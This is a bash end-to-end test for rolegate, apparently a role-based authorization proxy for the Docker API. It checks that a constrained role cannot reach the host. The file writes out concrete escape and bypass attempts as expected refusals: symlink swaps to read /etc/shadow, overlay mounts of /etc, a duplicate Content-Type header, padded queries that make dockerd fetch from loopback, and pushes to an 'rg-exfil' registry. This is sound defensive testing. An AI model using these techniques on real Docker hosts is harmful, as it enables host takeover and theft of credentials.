#!/bin/bash
# End-to-end (issues 14 and 21): no way from a constrained role to the host.
# The real docker CLI (and curl for BuildKit, which the CLI reaches only
# through buildx) against a real dockerd; every refusal is checked on the
# host side too: nothing mounted, no volume, the trusted image unchanged.
#
#   alice  docker-ops -> ops (allow "*"), also the Unix socket's identity
#   dave   developers -> developer: allow "*" with constraints
#
# usage: docker-host-access.sh ROLEGATE-BINARY     (root; exit 77 = skipped)
. "$(dirname "$0")/lib.sh"

e2e_setup "${1:?usage: $0 ROLEGATE-BINARY}" alice dave
command -v curl >/dev/null || e2e_skip "curl is not installed"
P=$E2E_DIR/projects
mkdir -p "$P/app/base" "$P/app/up" "$P/app/work"
echo "from the lower dir" >"$P/app/base/hello"
LOOP=
cleanup_loop() { [ -z "$LOOP" ] || losetup -d "$LOOP" 2>/dev/null; LOOP=; }
start_rolegate "$E2E_SRC/host-access.conf"
start_dockerd
# Detach the loop device however the test ends, then the harness's clean-up.
harness_exit=$(trap -p EXIT | sed "s/^trap -- '//; s/' EXIT\$//")
# Keep the script's status for the harness: cleanup_loop returns 0, and
# e2e_cleanup exits with the status it finds in $?.
trap "rc_=\$?; cleanup_loop; (exit \$rc_); $harness_exit" EXIT
# The docker CLI as USER, with the environment ENV=... before the arguments
# (DOCKER_BUILDKIT=0 for the classic builder).
docker_env_as() {
	local d=$E2E_CERTS/users/$1
	shift
	env "$1" timeout 120 docker --tlsverify --tlscacert "$d/ca.pem" --tlscert "$d/cert.pem" \
		--tlskey "$d/key.pem" -H "tcp://127.0.0.1:$E2E_PORT" "${@:2}"
}
e2e_import_busybox alice
dev="dave (roles: developer) may not"
busybox_id() { docker_as alice image inspect -f '{{.Id}}' busybox:latest; }
# Whether the host has anything mounted whose source or options name $1.
mounted() { grep -F -- "$1" /proc/self/mountinfo >/dev/null; }

e2e_section "overlay volumes: absolute dirs under the allowed directory work"
ovl="lowerdir=$P/app/base,upperdir=$P/app/up,workdir=$P/app/work"
expect_ok "ovl-ok" docker_as dave volume create -o type=overlay -o device=overlay -o "o=$ovl" ovl-ok
expect_ok "from the lower dir" docker_as dave run --rm -v ovl-ok:/o busybox cat /o/hello
expect_ok "ovl-ok" docker_as dave volume rm ovl-ok

e2e_section "overlay volumes: a relative dir is resolved from dockerd's / and refused"
expect_denied "$dev create a volume that mounts host path etc (relative, resolves to /etc)" \
	docker_as dave volume create -o type=overlay -o device=overlay \
	-o "o=lowerdir=etc,upperdir=$P/app/up,workdir=$P/app/work" ovl-rel
expect_denied "$dev create a volume that mounts host path ../../../../etc (relative" \
	docker_as dave volume create -o type=overlay -o device=overlay \
	-o "o=lowerdir=$P/app/base:../../../../etc,upperdir=$P/app/up,workdir=$P/app/work" ovl-rel2
expect_denied "$dev mount a volume that mounts host path etc (relative, resolves to /etc)" \
	docker_as dave run --rm --mount "type=volume,dst=/o,volume-driver=local,volume-opt=type=overlay,volume-opt=device=overlay,\"volume-opt=o=lowerdir=etc,upperdir=$P/app/up,workdir=$P/app/work\"" busybox true

e2e_section "device nodes under the allowed directory, and block-device filesystems"
mknod "$P/app/blk" b 7 0
expect_denied "$dev mount host path $P/app/blk, which is a block device node" \
	docker_as dave run --rm -v "$P/app/blk:/dev/x" busybox true
expect_denied "which is a block device node" \
	docker_as dave run --rm --mount "type=bind,src=$P/app/blk,dst=/x" busybox true
expect_denied "$dev create a volume that binds host path $P/app/blk, which is a block device node" \
	docker_as dave volume create -o type=none -o o=bind -o "device=$P/app/blk" blkvol
truncate -s 64M "$P/app/f.img"
mkfs.ext4 -q -F "$P/app/f.img" >/dev/null 2>&1 || e2e_fail "mkfs.ext4 $P/app/f.img"
LOOP=$(losetup -f --show "$P/app/f.img") || e2e_fail "losetup -f --show $P/app/f.img"
expect_denied "$dev create a volume that mounts filesystem type ext4 from the host: a block device" \
	docker_as dave volume create -o type=ext4 -o "device=$LOOP" ext4vol
expect_denied "filesystem type ext4" \
	docker_as dave volume create -o type=ext4 -o "device=$P/app/f.img" ext4img
expect_denied "filesystem type ext4" \
	docker_as dave run --rm --mount "type=volume,dst=/x,volume-driver=local,volume-opt=type=ext4,volume-opt=device=$LOOP" busybox true
expect_ok "" docker_as alice volume ls --format '{{.Name}}'
if [ -z "$E2E_OUT" ]; then
	e2e_pass "no volume exists after the refused creates"
else
	e2e_fail "volumes after refused creates: ${E2E_OUT//$'\n'/ }"
fi
if [ -n "$LOOP" ] && ! mounted "$LOOP" && ! mounted "$P/app/blk"; then
	e2e_pass "$LOOP and $P/app/blk are mounted nowhere on the host"
else
	e2e_fail "a refused device is mounted on the host (loop $LOOP)"
fi
cleanup_loop
expect_denied "$dev mount $P/app:/x:rshared with rshared propagation" \
	docker_as dave run --rm -v "$P/app:/x:rshared" busybox true
expect_ok "hello" docker_as dave run --rm -v "$P/app/base:/x:ro,rprivate" busybox ls /x

e2e_section "image names: a commit or tag over a trusted name is refused"
before=$(busybox_id)
expect_ok_match '^[0-9a-f]{64}$' docker_as dave create --name devbox busybox true
# under registries a commit is refused whole, named or not: its image joins
# the classic builder's cache (red team round 16, images); the bind_mounts
# refusal below is in tests/decisions/redteam14*.table
expect_denied "$dev commit a container (under registries or image_targets)" \
	docker_as dave commit devbox busybox:latest
expect_denied "$dev create the local image name docker.io/library/busybox" \
	docker_as dave tag devbox-missing docker.io/library/busybox:latest
# a commit reads the container's files on the host, where a swap of a
# directory for a symlink puts host files in the image (red team round 14)
expect_denied "$dev commit a container (under registries or image_targets)" \
	docker_as dave commit devbox
# An import behind two Content-Type headers: dockerd reads the hidden form
# body's repo (and fromSrc, fetched from the host's network) in place of
# the query's; it replaced busybox:latest (red team round 5).
dtls=(--cacert "$E2E_CERTS/users/dave/ca.pem" --cert "$E2E_CERTS/users/dave/cert.pem"
	--key "$E2E_CERTS/users/dave/key.pem" -s)
expect_status 0 "$dev import an image (image.import: dockerd may read its name and source from a body it does not show rolegate)" \
	curl "${dtls[@]}" -X POST -H 'Content-Type: application/x-www-form-urlencoded' \
	-H 'Content-Type: application/x-tar' --data-binary 'repo=busybox&tag=latest&changes=LABEL%20rg%3Dpoisoned' \
	"https://127.0.0.1:$E2E_PORT/v1.41/images/create?fromSrc=-"
expect_denied "$dev import an image" docker_as dave import - rg-import </dev/null
after=$(busybox_id)
if [ -n "$before" ] && [ "$before" = "$after" ]; then
	e2e_pass "busybox:latest is still $before"
else
	e2e_fail "busybox:latest changed: $before -> $after"
fi
expect_ok "devbox" docker_as dave rm devbox

e2e_section "image push: registries bound where dockerd sends an image (red team round 4)"
# dave may not make such a name (image_targets), but another user's image may have one
expect_ok "" docker_as alice tag busybox:latest 127.0.0.1:9/rg-exfil:1
expect_denied "$dev push image 127.0.0.1:9/rg-exfil:1 (allowed registries: docker.io/library)" \
	docker_as dave push 127.0.0.1:9/rg-exfil:1
expect_ok "" docker_as alice rmi 127.0.0.1:9/rg-exfil:1

e2e_section "plugin push: registries bound where dockerd sends a plugin (red team round 10)"
# alice's plugin named for the host's loopback; dockerd finds a plugin by
# name or, when none has that name, by id prefix, and pushes it where its
# own name says. Port 9 has no listener: alice's push by prefix shows the
# dial ("connection refused"), so dave's refusal is not vacuous.
plug=$E2E_DIR/plug
mkdir -p "$plug/rootfs/bin"
cp "$DOCKERD_BUSYBOX" "$plug/rootfs/bin/busybox"
printf '%s\n' '{"description":"rg","documentation":"rg","entrypoint":["/bin/busybox","sleep","1"],"interface":{"types":["docker.volumedriver/1.0"],"socket":"p.sock"}}' \
	>"$plug/config.json"
expect_ok "127.0.0.1:9/rg-plug" docker_as alice plugin create 127.0.0.1:9/rg-plug:latest "$plug"
plug_prefix=$(docker_as alice plugin inspect -f '{{.Id}}' 127.0.0.1:9/rg-plug:latest | cut -c1-10)
expect_denied "$dev push plugin 127.0.0.1:9/rg-plug:latest (allowed registries: docker.io/library)" \
	docker_as dave plugin push 127.0.0.1:9/rg-plug:latest
expect_status 0 "$dev push plugin $plug_prefix by id" \
	curl "${dtls[@]}" -X POST -H 'X-Registry-Auth: e30=' \
	"https://127.0.0.1:$E2E_PORT/v1.41/plugins/$plug_prefix/push"
atls=(--cacert "$E2E_CERTS/users/alice/ca.pem" --cert "$E2E_CERTS/users/alice/cert.pem"
	--key "$E2E_CERTS/users/alice/key.pem" -s)
expect_status 0 "127.0.0.1:9" \
	curl "${atls[@]}" -X POST -H 'X-Registry-Auth: e30=' \
	"https://127.0.0.1:$E2E_PORT/v1.41/plugins/$plug_prefix/push"
expect_ok "" docker_as alice plugin rm 127.0.0.1:9/rg-plug:latest

e2e_section "plugin set: a setting without a field may be a mount's source (red team round 10)"
mkdir -p "$P/plugdata"
printf '%s\n' '{"description":"rg","documentation":"rg","entrypoint":["/bin/busybox","sleep","1"],"interface":{"types":["docker.volumedriver/1.0"],"socket":"p.sock"},"mounts":[{"name":"data","source":"'"$P/plugdata"'","destination":"/data","type":"bind","options":["rbind"],"settable":["source"]}],"env":[{"name":"DEBUG","settable":["value"],"value":"0"}]}' \
	>"$plug/config.json"
expect_ok "rg-mplug" docker_as alice plugin create rg-mplug "$plug"
expect_denied "$dev configure plugin setting data=/etc without naming its field" \
	docker_as dave plugin set rg-mplug data=/etc
expect_denied "$dev point a plugin mount at host path /etc (allowed: $P)" \
	docker_as dave plugin set rg-mplug data.source=/etc
expect_ok "" docker_as dave plugin set rg-mplug DEBUG.value=1
expect_ok "$P/plugdata" docker_as alice plugin inspect -f '{{range .Settings.Mounts}}{{.Source}}{{end}}' rg-mplug
expect_ok "" docker_as alice plugin rm rg-mplug

e2e_section "a certificate without CN is not the unauthenticated identity"
nocn=$E2E_CERTS/users/nocn
mkdir -p "$nocn"
cp "$E2E_CERTS/ca.pem" "$nocn/ca.pem"
openssl genpkey -algorithm EC -pkeyopt ec_paramgen_curve:P-256 -out "$nocn/key.pem" 2>/dev/null
printf 'extendedKeyUsage = clientAuth\n' >"$nocn/ext.cnf"
openssl req -new -key "$nocn/key.pem" -subj "/O=rolegate-test" 2>/dev/null |
	openssl x509 -req -CA "$E2E_CERTS/ca.pem" -CAkey "$E2E_CERTS/ca-key.pem" -CAcreateserial \
		-days 2 -sha256 -extfile "$nocn/ext.cnf" -out "$nocn/cert.pem" 2>/dev/null ||
	e2e_fail "cannot issue a certificate without CN"
expect_ok "busybox" docker_unix image ls
expect_denied "a client certificate with an empty CN (common name) names no user" \
	docker_as nocn image ls

e2e_section "BuildKit and the classic builder (issue 21)"
tls=(--cacert "$E2E_CERTS/users/dave/ca.pem" --cert "$E2E_CERTS/users/dave/cert.pem"
	--key "$E2E_CERTS/users/dave/key.pem" -s)
api=https://127.0.0.1:$E2E_PORT/v1.41
expect_status 0 "$dev build with BuildKit (version=2), which cannot be checked against role developer's constraints; use the classic builder" \
	curl "${tls[@]}" -X POST -H 'Content-Type: application/x-tar' --data-binary @/dev/null \
	"$api/build?version=2&session=rg-test&remote=client-session"
expect_status 0 "$dev use system.session (BuildKit" \
	curl "${tls[@]}" -X POST -H 'Upgrade: h2c' -H 'Connection: Upgrade' \
	-H 'X-Docker-Expose-Session-Uuid: rg-test' "$api/session"
expect_status 0 "$dev use system.grpc" curl "${tls[@]}" -X POST "$api/../grpc"
ctx=$E2E_DIR/ctx
mkdir -p "$ctx"
printf 'FROM busybox\nRUN echo built > /built\n' >"$ctx/Dockerfile"
expect_denied "$dev place a container in the cgroup /rg-escape (--cgroup-parent" \
	docker_env_as dave DOCKER_BUILDKIT=0 build --cgroup-parent /rg-escape "$ctx"
expect_denied "$dev build with the host's network namespace" \
	docker_env_as dave DOCKER_BUILDKIT=0 build --network host "$ctx"
# What a RUN step's cache key leaves out: another user's build of the same
# step would take this one's result (red team round 16, images)
expect_denied "$dev build with extra hosts (extrahosts=artifacts.example.org:127.0.0.1" \
	docker_env_as dave DOCKER_BUILDKIT=0 build -m 64m --add-host artifacts.example.org:127.0.0.1 "$ctx"
expect_denied "$dev build with the proxy build argument http_proxy" \
	docker_env_as dave DOCKER_BUILDKIT=0 build -m 64m --build-arg http_proxy=http://127.0.0.1:3128 "$ctx"
expect_ok "Successfully built" docker_env_as dave DOCKER_BUILDKIT=0 build -m 64m "$ctx"
# Red team round 8: a query value past rolegate's 4 KiB buffer read as
# absent. remote= padded past it had dockerd fetch a context from a server
# listening only on the host's loopback.
www=$E2E_DIR/www
mkdir -p "$www"
printf 'FROM busybox\nRUN echo fetched-from-loopback\n' >"$www/Dockerfile"
www_port=$((20000 + RANDOM % 20000))
busybox httpd -f -p "127.0.0.1:$www_port" -h "$www" &
www_pid=$!
pad=$(head -c 4200 /dev/zero | tr '\0' a)
expect_status 0 "$dev send a query value of 4096 bytes or more" \
	curl "${tls[@]}" -X POST -H 'Content-Type: application/x-tar' --data-binary @/dev/null \
	"$api/build?memory=67108864&remote=http://127.0.0.1:$www_port/Dockerfile%3Fp%3D$pad"
# the same fetch as ops: dockerd fetches it (the check above is not vacuous).
# Without the padding: a URI past 4096 bytes is now refused to every role,
# as the log cannot record it in full (red team round 16).
atls=(--cacert "$E2E_CERTS/users/alice/ca.pem" --cert "$E2E_CERTS/users/alice/cert.pem"
	--key "$E2E_CERTS/users/alice/key.pem" -s)
expect_ok "fetched-from-loopback" \
	curl "${atls[@]}" -X POST -H 'Content-Type: application/x-tar' --data-binary @/dev/null \
	"$api/build?memory=67108864&remote=http://127.0.0.1:$www_port/Dockerfile%3Fp%3Dx"
kill "$www_pid" 2>/dev/null
wait "$www_pid" 2>/dev/null

e2e_section "a restart policy mounts host paths again unseen (red team round 4)"
# The container swaps its allowed directory for a symlink to / and exits;
# dockerd's restart would mount the host's /. Refused at create and update.
mkdir -p "$P/rst/a"
swap='if [ -e /a/etc/shadow ]; then head -c 4 /a/etc/shadow; else rmdir /p/a; ln -s / /p/a; exit 1; fi'
expect_denied "$dev create a container that mounts host paths and restarts by itself (HostConfig.RestartPolicy)" \
	docker_as dave run -d --name rst1 --restart=on-failure:3 -v "$P/rst:/p" -v "$P/rst/a:/a" busybox sh -c "$swap"
expect_denied "$dev create a container that mounts host paths and restarts by itself" \
	docker_as dave run -d --name rst2 --restart=always --mount "type=bind,src=$P/rst/a,dst=/a" busybox true
expect_ok "" docker_as dave volume create -o type=none -o o=bind -o device="$P/rst/a" rstvol
expect_denied "$dev mount volume rstvol, which mounts host paths, in a container that restarts unseen" \
	docker_as dave run -d --name rst3 --restart=unless-stopped -v rstvol:/a busybox true
# Without a policy it runs; an update may not add one, to it or a volume user.
expect_ok "" docker_as dave create --name rst4 -v "$P/rst:/p" -v "$P/rst/a:/a" busybox sh -c "$swap"
expect_denied "$dev give a restart policy (RestartPolicy) to container rst4, which mounts host paths" \
	docker_as dave update --restart=on-failure:3 rst4
expect_ok "" docker_as dave create --name rst5 -v rstvol:/a busybox true
expect_denied "$dev give a restart policy (RestartPolicy) to container rst5, which mounts host paths" \
	docker_as dave update --restart=always rst5
expect_ok "" docker_as dave create --name rst6 busybox true
expect_ok "" docker_as dave update --restart=always rst6
# docker cp mounts the binds again in dockerd's namespace: after the swap
# it would read and write the host's files as root.
expect_ok "" docker_as dave run --name rst7 -v "$P/rst:/p" -v "$P/rst/a:/a" busybox true
expect_denied "$dev copy files to or from container rst7 (docker cp)" \
	docker_as dave cp rst7:/a/. "$E2E_DIR/cp-out"
echo x >"$E2E_DIR/cp-in"
expect_denied "$dev copy files to or from container rst7 (docker cp)" \
	docker_as dave cp "$E2E_DIR/cp-in" rst7:/a/cp-in
# and so does every docker cp: dockerd mounts /etc/hosts, /etc/hostname and
# volumes along paths the container can swap for symlinks (red team round 14)
expect_denied "$dev copy files to or from container rst6 (docker cp): dockerd mounts" \
	docker_as dave cp rst6:/etc/hostname "$E2E_DIR/cp-out"
expect_ok "" docker_as alice rm rst4 rst5 rst6 rst7
expect_ok "" docker_as alice volume rm rstvol
if [ -d "$P/rst/a" ] && [ ! -L "$P/rst/a" ]; then
	e2e_pass "the allowed directory was not swapped"
else
	e2e_fail "$P/rst/a was swapped: $(ls -l "$P/rst")"
fi

e2e_section "a route rolegate cannot name: the copy before archive (red team round 5)"
# dockerd 20.10 still serves POST /containers/{id}/copy below API 1.24; it
# mounts the binds again like docker cp. rolegate names it unknown, which
# "*" matches: after the container's swap it read the host's /etc/shadow.
mkdir -p "$P/cp8/a"
expect_ok "" docker_as dave run --name cp8 -v "$P/cp8:/p" -v "$P/cp8/a:/a" busybox sh -c 'rmdir /p/a; ln -s / /p/a'
expect_status 0 "$dev send a request rolegate cannot name (unknown: no constraint reads it)" \
	curl "${tls[@]}" -X POST -H 'Content-Type: application/json' -d '{"Resource":"/a/etc/hostname"}' \
	"https://127.0.0.1:$E2E_PORT/v1.23/containers/cp8/copy"
expect_status 0 "$dev send a request rolegate cannot name" \
	curl "${tls[@]}" -X POST -H 'Content-Type: application/json' -d '{"Resource":"/a/etc/hostname"}' \
	"https://127.0.0.1:$E2E_PORT/v1.41/containers/cp8/copy"
expect_ok "" docker_as alice rm cp8

e2e_section "swarm services are containers (issue 21)"
swarm_port=$((20000 + RANDOM % 20000))
expect_ok "Swarm initialized" docker_as alice swarm init --advertise-addr 127.0.0.1 \
	--listen-addr "127.0.0.1:$swarm_port"
pub=$((20000 + RANDOM % 20000))
expect_denied "$dev publish port $pub on the host's network directly" \
	docker_as dave service create --detach --no-resolve-image --name hostport \
	--publish "mode=host,target=80,published=$pub" busybox sleep 300
printf s3cret >"$E2E_DIR/secret.txt"
expect_ok_match '^[a-z0-9]{25}$' docker_as alice secret create rg-secret "$E2E_DIR/secret.txt"
expect_denied "$dev give a service secrets (TaskTemplate.ContainerSpec.Secrets) without being allowed secret.inspect" \
	docker_as dave service create --detach --no-resolve-image --name withsecret \
	--secret rg-secret busybox sleep 300
# red team round 3: a task mounts a known host-mount volume without a container create
expect_ok "" docker_as alice volume create -o type=none -o o=bind -o device=/etc svcetc
expect_denied "$dev mount volume svcetc, which" \
	docker_as dave service create --detach --no-resolve-image --name etcsvc \
	--mount type=volume,src=svcetc,dst=/e busybox sleep 300
# red team round 4: swarmkit makes each task (and its replacement) unseen
expect_denied "$dev create a service that mounts host paths (TaskTemplate.ContainerSpec.Mounts)" \
	docker_as dave service create --detach --no-resolve-image --name bindsvc \
	--mount "type=bind,src=$P/rst,dst=/p" busybox sleep 300
# red team round 6: the CLI sends --network host as the id of swarmkit's own
# host network (letters and digits), which rolegate had judged as a name
expect_denied "$dev attach a service to network ... could be the host's network (host_namespaces)" \
	docker_as dave service create --detach --no-resolve-image --name hostsvc \
	--network host busybox sleep 300
expect_ok "" docker_as alice service ls --format '{{.Name}}'
if [ -z "$E2E_OUT" ]; then
	e2e_pass "no service exists after the refused creates"
else
	e2e_fail "services after refused creates: ${E2E_OUT//$'\n'/ }"
fi
expect_ok_match '^[a-z0-9]{25}$' docker_as dave service create --detach --no-resolve-image \
	--name ingress-ok --publish "target=80,published=$pub" busybox sleep 300
expect_ok_match '^[a-z0-9]{25}$' docker_as alice service create --detach --no-resolve-image \
	--name admin-hostport --publish "mode=host,target=80,published=$((pub + 1))" busybox sleep 300
expect_ok_match '^[a-z0-9]{25}$' docker_as alice service create --detach --no-resolve-image \
	--name admin-secret --secret rg-secret busybox sleep 300
# a network rolegate saw created is known by its swarm id, which the CLI sends
expect_ok_match '^[a-z0-9]{25}$' docker_as dave network create -d overlay davesvcnet
expect_ok_match '^[a-z0-9]{25}$' docker_as dave service create --detach --no-resolve-image \
	--name ownnet-ok --network davesvcnet busybox sleep 300
expect_ok "" docker_as alice service rm ingress-ok admin-hostport admin-secret ownnet-ok
expect_ok "" docker_as alice swarm leave --force
expect_ok "" docker_as alice volume rm svcetc

e2e_section "shutdown"
e2e_shutdown
e2e_finish
